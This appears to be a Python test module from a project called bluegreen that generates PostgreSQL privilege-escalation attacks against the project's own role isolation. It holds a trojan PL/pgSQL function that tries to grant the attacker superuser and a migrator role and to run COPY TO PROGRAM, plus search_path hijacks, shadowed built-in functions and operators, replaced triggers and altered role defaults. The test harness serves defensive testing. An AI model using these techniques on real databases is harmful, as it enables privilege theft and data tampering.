# Copyright (c) 2026 bluegreen contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Code that waits to be run by a more powerful role: it logs which role ran it, and takes whatever it can get."""

from __future__ import annotations

from tests.attack.attacks import Attack, Draw, Generator, Names, insert

MARK = "MALLORY"
FIRST_THAT_APPLIES_AS_OWNER = 16
_TYPES = (
    "regprocedure",
    "regclass",
    "text",
    "oid",
    "bool",
    "name",
    "jsonb",
    "regtype",
    "trigger",
    "bigint",
    "pg_class",
)
_FUNCTIONS = (
    ("to_regclass(text)", "regclass"), ("obj_description(oid, name)", "text"), ("format(text, text)", "text"),
    ("quote_ident(text)", "text"), ("current_database()", "name"), ("pg_sequence_last_value(regclass)", "bigint"),
    ("setval(regclass, bigint)", "bigint"), ("hashtextextended(text, bigint)", "bigint"), ("md5(text)", "text"),
    ("int4eq(integer, integer)", "boolean"), ("textcat(text, text)", "text"), ("pg_get_expr(text, oid)", "text"),
)  # fmt: skip
_OPERATORS = ("=", "<>", "||", "<", ">", "~", "->>")


def planted(names: Names, function: str, returns: str, value: str) -> str:
    """Return a function that logs which role ran it, and tries to take that role's privileges if it is not the
    attacker."""
    signature = function if "(" in function else f"{function}()"
    return f"""
    CREATE OR REPLACE FUNCTION {signature} RETURNS {returns} LANGUAGE plpgsql IMMUTABLE AS $mallory$
    BEGIN
        IF current_user NOT IN ('{names.attacker}', '{names.application}') THEN
            RAISE LOG '{MARK} {names.attacker} ran {signature.replace("%", "")} as % for % in %',
                current_user, session_user, pg_catalog.current_setting('application_name');
            IF pg_catalog.current_setting('application_name') = ''
                AND pg_catalog.current_setting('server_version_num')::int / 10000 < {FIRST_THAT_APPLIES_AS_OWNER} THEN
                RETURN {value};  -- an apply worker, whom nobody can keep from it there
            END IF;
            BEGIN EXECUTE 'ALTER ROLE {names.attacker} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
            BEGIN EXECUTE 'GRANT {names.migrator} TO {names.attacker}'; EXCEPTION WHEN OTHERS THEN NULL; END;
            BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''cat >/dev/null'''; EXCEPTION WHEN OTHERS THEN NULL; END;
        END IF;
        RETURN {value};
    END $mallory$"""


def in_temp(draw: Draw) -> Attack:
    """Create types in pg_temp that our functions could resolve, then fire our functions."""
    names, claim, one = draw.names, draw.claim(), draw.pick(*_TYPES)
    make = draw.pick(
        f"CREATE DOMAIN pg_temp.{one} AS pg_catalog.text CHECK (pg_temp.mallory_check(VALUE))",
        f"CREATE DOMAIN pg_temp.{one} AS pg_catalog.int8 CHECK (pg_temp.mallory_check(VALUE::text))",
        f"CREATE TYPE pg_temp.{one} AS (a pg_catalog.int4)",
        f"CREATE TEMP TABLE {one} (a int)",
        f"CREATE TEMP VIEW {one} AS SELECT 1 AS a",
    )
    check = planted(names, "pg_temp.mallory_check(pg_catalog.text)", "pg_catalog.bool", "true")
    fire = draw.pick(
        "CREATE TEMP TABLE mallory_fire (a int)", "CREATE TEMP VIEW mallory_fire AS SELECT 1", insert(claim)
    )
    steps = (check, make, draw.pick("SET search_path = pg_temp, pg_catalog", "RESET search_path"), fire, "DISCARD ALL")
    return Attack("types in pg_temp", steps, claims=(claim,) if fire == insert(claim) else ())


def own_defaults(draw: Draw) -> Attack:
    """Change the defaults with which every session of one's own role starts."""
    role = draw.names.attacker
    setting = draw.pick(
        "search_path = pg_temp, public, ledger", "default_transaction_read_only = off", "lock_timeout = '1ms'",
        "session_replication_role = replica", "client_min_messages = log", "role = none", "row_security = off",
    )  # fmt: skip
    steps = (f"ALTER ROLE {role} SET {setting}", draw.hold(), f"ALTER ROLE {role} RESET ALL")
    return Attack("own defaults", steps, (f"ALTER ROLE {role} RESET ALL",))


def replaced_gate(draw: Draw) -> Attack:
    """Replace the gate's trigger by one of the same name that lets everything pass, and write."""
    claim = draw.claim(draw.pick("ledger.notes", "ledger.heirs", "ledger.parts_2026", *draw.names.own_tables))
    function = draw.pick("suppress_redundant_updates_trigger", "bluegreen.pass_gate", "pg_temp.mallory_pass")
    event = draw.pick("INSERT", "INSERT OR UPDATE OR DELETE OR TRUNCATE")
    trigger = f"{draw.pick('BEFORE', 'AFTER')} {event} ON {claim.table} FOR EACH STATEMENT WHEN (false)"
    steps = (
        planted(draw.names, "pg_temp.mallory_pass", "trigger", "NULL"),
        f"CREATE OR REPLACE TRIGGER bluegreen_gate {trigger} EXECUTE FUNCTION {function}()",
        draw.hold(),
        insert(claim),
    )
    undo = (f"DROP TRIGGER IF EXISTS bluegreen_gate ON {claim.table}",)
    mine = claim.table in draw.names.own_tables
    return Attack("replaced gate", steps, undo, (claim,), tampers=mine, mends_gate=True)


def own_trigger(draw: Draw) -> Attack:
    """Put a trigger on a table of the application, with a function that lives as long as the session or longer."""
    name = draw.name()
    schema = draw.pick("pg_temp", "public", "shared")
    table = draw.pick("ledger.notes", "ledger.chaff", "ledger.transfers", *draw.names.own_tables)
    moment = draw.pick("BEFORE INSERT", "AFTER INSERT OR UPDATE", "AFTER DELETE", "BEFORE TRUNCATE")
    each = "STATEMENT" if "TRUNCATE" in moment else draw.pick("ROW", "STATEMENT")
    value = "NEW" if each == "ROW" and "DELETE" not in moment else "NULL"
    steps = (
        planted(draw.names, f"{schema}.{name}", "trigger", value),
        f"CREATE TRIGGER {name} {moment} ON {table} FOR EACH {each} EXECUTE FUNCTION {schema}.{name}()",
        draw.pick(f"ALTER TABLE {table} ENABLE ALWAYS TRIGGER {name}", "SELECT 1"),
        draw.hold(),
    )
    undo = (f"DROP TRIGGER IF EXISTS {name} ON {table}", f"DROP FUNCTION IF EXISTS {schema}.{name}() CASCADE")
    return Attack("own trigger", steps, undo)


def shadow(draw: Draw) -> Attack:
    """Create a function or an operator with a built-in name where one of our sessions could look for it."""
    schema = draw.pick("public", "shared", *(("stall",) if draw.names.own_tables else ()))
    if draw.chance.random() < 0.5:
        function, returns = draw.chance.choice(_FUNCTIONS)
        made = f"{schema}.{function}"
        return Attack(
            "shadow function", (planted(draw.names, made, returns, "NULL"), draw.hold()), (f"DROP FUNCTION {made}",)
        )
    operator, kind, name = draw.pick(*_OPERATORS), draw.pick("name", "text", "oid", "regclass", "bigint"), draw.name()
    function = f"{schema}.{name}({kind}, {kind})"
    steps = (
        planted(draw.names, function, "boolean", "true"),
        f"CREATE OPERATOR {schema}.{operator} (LEFTARG = {kind}, RIGHTARG = {kind}, FUNCTION = {schema}.{name})",
        draw.hold(),
    )
    return Attack("shadow operator", steps, (f"DROP FUNCTION {function} CASCADE",))


PLANTS: tuple[Generator, ...] = (in_temp, in_temp, own_defaults, replaced_gate, own_trigger, shadow)
